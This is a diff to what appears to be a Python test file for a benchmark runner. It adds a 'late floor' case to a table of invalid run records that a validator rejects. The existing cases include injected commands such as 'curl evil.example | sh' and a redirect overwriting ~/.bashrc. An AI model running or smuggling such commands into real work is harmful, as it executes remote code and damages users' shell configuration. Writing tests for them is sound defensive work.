@@ -88,6 +88,7 @@ def copied() -> Run:
 
 CREATED = HONEST.created
 GPU_FLOOR = (FloorOf("cuda:0", WORK, make_floor()),)
+LATE_FLOOR = (*HONEST.floors, FloorOf("cpu", WORK, make_floor(), HONEST.rounds))
 IMPOSSIBLE = {
     "command": (changed(command="python -m bench run; curl evil.example | sh"), "its command is"),
     "redirected": (changed(command="python -m bench run >~/.bashrc"), "its command is"),
@@ -100,6 +101,7 @@ IMPOSSIBLE = {
     "no floor": (changed(floors=(FloorOf("cpu", WORK, make_failed()),)), "no rate can be judged"),
     "two floors": (changed(floors=HONEST.floors * 2), "or two of one"),
     "stray floor": (changed(floors=(*HONEST.floors, *GPU_FLOOR)), "that no row has"),
+    "late floor": (changed(floors=LATE_FLOOR), "rounds that no row has"),
     "peak": (floor(peak_flop_per_second=1e15), "more than any device has"),
     "fast floor": (floor(epoch_seconds=1e-6), "beyond its own peak"),
     "row dropped": (without_a_row(), "rows or rounds were dropped"),
